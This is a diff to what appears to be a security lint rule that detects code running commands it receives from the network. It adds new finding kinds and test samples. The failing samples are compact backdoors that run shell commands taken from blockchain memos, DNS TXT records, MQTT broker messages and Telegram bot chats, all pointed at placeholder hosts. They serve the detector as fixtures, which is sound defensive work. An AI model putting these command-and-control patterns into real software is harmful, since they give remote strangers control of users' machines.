@@ -1,8 +1,10 @@
+import { placeOf } from '../src/define/entrusted.js';
 import { isOfStart, isQuoted } from '../src/define/given.js';
 import { isOfOwnPage } from '../src/define/pages.js';
 import { functionAround, isSameVariable } from '../src/define/variables.js';
 import { codeArguments, defineRule, spelling, step, stepsOf } from '../src/define.js';
 import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
+import { channelOf, isPublicRecord } from '../src/vocabulary/clients.js';
 import { isServed, MESSAGE } from '../src/vocabulary/served.js';
 
 export default defineRule({
@@ -17,6 +19,8 @@ export default defineRule({
       worker: 'Fetches text with {source} and runs it in a worker',
       template: 'Puts what it fetched with {source} into code it runs with {sink}',
       command: 'Fetches a command with {source} and hands it to {sink}',
+      record: 'Hands {sink} a command out of a public record that it reads with {source}',
+      channel: 'Does whatever comes over {source}, which it opens by itself, with {sink}',
       relayed: 'Hands {sink} a command that what another file fetched with {source} is part of',
       program: 'Starts a program that what it fetched with {source} names, with {sink}',
       packages: 'Installs packages that {source} names while it is being installed',
@@ -30,6 +34,8 @@ export default defineRule({
       worker: 4,
       template: 5,
       command: 12,
+      record: 13.5,
+      channel: 12,
       relayed: 4,
       program: 5,
       packages: 9,
@@ -103,8 +109,36 @@ export default defineRule({
         title: 'a command is fetched',
         code: `const { exec } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(command => exec(command));`,
       },
+      {
+        title: 'what somebody noted in a chain is a command',
+        code: `const { Connection, PublicKey } = require('@solana/web3.js'), { exec } = require('child_process');\nconst chain = new Connection('https://rpc.invalid');\nsetInterval(async () => {\n  const [last] = await chain.getSignaturesForAddress(new PublicKey('1'.repeat(32)), { limit: 1 });\n  exec(last.memo.replace(/^\\[\\d+\\] /, ''));\n}, 9000);`,
+      },
+      {
+        title: 'a record of a name is one',
+        code: `const dns = require('dns').promises, { execSync } = require('child_process');\n(async () => execSync((await dns.resolveTxt('task.stage.invalid')).flat().join('')))();`,
+      },
+      {
+        title: 'a broker’s messages pick what is done with them',
+        code: `const mqtt = require('mqtt'), { execSync } = require('child_process'), fs = require('fs');\nconst acts = { run: line => execSync(line), put: ({ path, text }) => fs.writeFileSync(path, text) };\nconst line = mqtt.connect('mqtts://broker.invalid');\nline.on('message', (topic, message) => {\n  const { act, of } = JSON.parse(message.toString());\n  acts[act]?.(of);\n});`,
+      },
+      {
+        title: 'a bot of its own does what it is written',
+        code: `const { Telegraf } = require('telegraf'), { exec } = require('child_process');\nconst bot = new Telegraf('123456789:AAaaBBbbCCccDDddEEeeFFffGGggHHhhIIi');\nbot.on('text', chat => exec(chat.message.text, (error, out) => chat.reply(out)));`,
+      },
     ],
     passes: [
+      {
+        title: 'a bot starts one fixed program when it is asked',
+        code: `const { Telegraf } = require('telegraf'), { exec } = require('child_process');\nconst bot = new Telegraf(process.env.BOT_TOKEN);\nbot.command('deploy', chat => exec('git pull', () => chat.reply('done')));`,
+      },
+      {
+        title: 'messages pick what is worked out of them',
+        code: `const mqtt = require('mqtt');\nconst acts = { ping: () => 'pong', sum: list => list.reduce((a, b) => a + b, 0) };\nconst line = mqtt.connect('mqtts://broker.invalid');\nline.on('message', (topic, message) => {\n  const { act, of } = JSON.parse(message.toString());\n  line.publish('answers', String(acts[act]?.(of)));\n});`,
+      },
+      {
+        title: 'a record of a name is compared',
+        code: `const dns = require('dns').promises, { execFileSync } = require('child_process');\nexports.verify = async name => (await dns.resolveTxt(name)).flat().includes(execFileSync('git', ['rev-parse', 'HEAD']).toString());`,
+      },
       {
         title: 'a test starts a server with a hole in it',
         files: {
@@ -222,8 +256,16 @@ function messageOf(
   // Words out of a request for a program that is fixed: `cmd /c code <file>` opens an editor.
   if (isServed(detail) && arg !== args[0]) return undefined;
   // What an API client of one file answers reaches many parameters of others, few of them for sure.
+  if (line && isPublicRecord(detail)) return 'record';
+  if (line && isOwnChannel(context, label)) return 'channel';
   if (line) return origin.file !== context.file ? 'relayed' : isServed(detail) ? 'ordered' : 'command';
   return isServed(detail) ? undefined : 'program';
+}
+
+/** A channel to a place, or by the name of a bot, that the code itself has. */
+function isOwnChannel(context: FileContext, { detail, origin }: Label): boolean {
+  const channel = channelOf(detail) ?? (detail === MESSAGE ? 'WebSocket' : undefined);
+  return channel !== undefined && origin.file === context.file && placeOf(context, channel) !== undefined;
 }
 
 /**
